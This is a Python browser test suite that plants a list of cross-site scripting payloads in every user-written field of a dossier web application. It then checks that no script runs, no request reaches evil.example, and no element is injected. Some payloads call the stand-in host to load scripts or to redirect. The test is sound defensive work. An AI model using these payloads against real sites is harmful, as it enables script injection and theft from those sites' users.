"""T10: whatever somebody writes is only text, on every page that shows it."""

from collections import deque
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page

from motcua.registry.people.models import Person
from motcua.service.dossiers.models import DossierPaper
from tests.journeys.walker import Walker
from tests.web.world import World, make_world

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

MARK = "evilmark"
TAGS = ["script", "img src=x onerror", "svg onload", "iframe srcdoc", "body onload", "details open ontoggle",
        "video src=x onerror", "marquee onstart", "input autofocus onfocus", "a href=javascript:"]  # fmt: skip
ENDS = ["title", "textarea", "script", "style", "noscript", "template"]
CALL = f"alert('{MARK}')"
NEW_ELEMENTS = f"{MARK}, [onerror], [onload], [onstart], [onfocus], [srcdoc], base, [href^='javascript']"
PAYLOADS = [
    *(f"<{tag}={CALL}>{MARK}" for tag in TAGS),
    *(f"'\"><{tag}={CALL}>{MARK}" for tag in TAGS),
    *(f"</{end}><script>{CALL}</script><{MARK}>" for end in ENDS),
    f"<script>{CALL}</script>",
    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
    f"<{MARK}></{MARK}>",
    f"<img src=//evil.example/{MARK}>",
    f"<link rel=stylesheet href=//evil.example/{MARK}>",
    f"<base href=//evil.example/{MARK}>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<form action=//evil.example><button>{MARK}",
    f"{{{{ {MARK} }}}}{{% load {MARK} %}}",
    f"${{{CALL}}}#{{{CALL}}}",
    f"javascript:{CALL}//",
    f"\" onmouseover=\"{CALL}\" x=\"",
    f"' style='background:url(//evil.example/{MARK})'",
    f"<!--{MARK}--><!--><script>{CALL}</script>",
]  # fmt: skip


def test_there_are_forty() -> None:
    assert len(PAYLOADS) >= 40


@pytest.fixture
def world(transactional_db: None, home: Any) -> World:
    return make_world()


def some(room: int) -> str:
    """The next payloads that fit, so that each is planted somewhere whole."""
    text = ""
    while len(text) + len(TURN[0]) < room:
        text += f"{TURN[0]} "
        TURN.rotate(-1)
    return text


TURN = deque(PAYLOADS)


def plant(world: World) -> None:
    """Put the payloads into every text that people write, past all checks."""
    whole = " ".join(PAYLOADS)
    for story in (world.settled, world.waiting):
        dossier = story.dossier
        dossier.refresh_from_db()
        dossier.answers = {"request": {"content": whole, "note": whole}}
        line = {"name": whole, "amount_vnd": 1, "before_vnd": 2, "rule": whole, "legal": whole}
        dossier.fee_lines = [line]
        dossier.save(update_fields=["answers", "fee_lines"])
        DossierPaper.objects.filter(dossier=dossier).update(file_name=some(255), name=some(500))
        dossier.reasons.update(reason=some(2000), legal_ground=some(500))
        dossier.consultations.update(question=some(2000), answer=some(4000))
        for request in dossier.supplement_requests.all():
            request.items.update(label=some(500), reason=some(1000), remedy=some(1000))
        dossier.results.update(title=some(300))
    person = Person.objects.filter(id=world.settled.citizen.id)
    person.update(full_name=some(200), address=some(200))
    for draft in (world.draft, world.counter_draft):
        draft.answers = {"request": {"content": whole, "note": whole}, "questions": {"x": whole}}
        draft.save(update_fields=["answers"])


def test_no_payload_runs_asks_outside_or_becomes_an_element(world: World, walk: Callable[..., Walker]) -> None:
    plant(world)
    walker = walk("hostile")
    wrong = watch(walker.page)
    settled, waiting = world.settled.dossier.number, world.waiting.dossier.number
    visited = {
        "owner": [
            *(f"/ho-so/{settled}/", f"/ho-so/{waiting}/", f"/ho-so/{settled}/bien-nhan/", f"/ho-so/{waiting}/bo-sung/"),
            *("/cua-toi/", "/accounts/details/", "/accounts/details/edit/", f"/ho-so/{waiting}/rut/"),
            *(f"/nhap/{world.draft.key}/{page}" for page in ("", "phan/request/", "kiem-tra/")),
        ],
        "counter": [
            *("/can-bo/?filter=unit", "/can-bo/?filter=ready", f"/can-bo/ho-so/{settled}/"),
            *(f"/can-bo/ho-so/{waiting}/", f"/can-bo/ho-so/{waiting}/nhap-bo-sung/"),
            f"/nhap/{world.counter_draft.key}/phan/request/",
            f"/can-bo/ho-so/{settled}/giay-to/{world.settled.dossier.papers.get().id}/",
        ],
    }
    shown = 0
    for role, paths in visited.items():
        walker.sign_in(world.accounts[role])
        for path in paths:
            answer = walker.page.goto(walker.base + path)
            assert answer is not None
            assert answer.status == 200, path
            shown += MARK in walker.page.content()
            assert (
                walker.page.locator(
                    f"{MARK}, [onerror], [onload], [onstart], [srcdoc], base, [href^='javascript']"
                ).count()
                == 0
            )
    assert wrong == []
    assert shown >= 12, "the payloads stood on the pages"


def watch(page: Page) -> list[str]:
    """Dialogs, refusals of the content policy, and questions to other hosts."""
    wrong: list[str] = []
    page.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda said: wrong.append(said.text) if "Content Security Policy" in said.text else None)
    page.on("request", lambda asked: wrong.append(asked.url) if "evil.example" in asked.url else None)
    return wrong
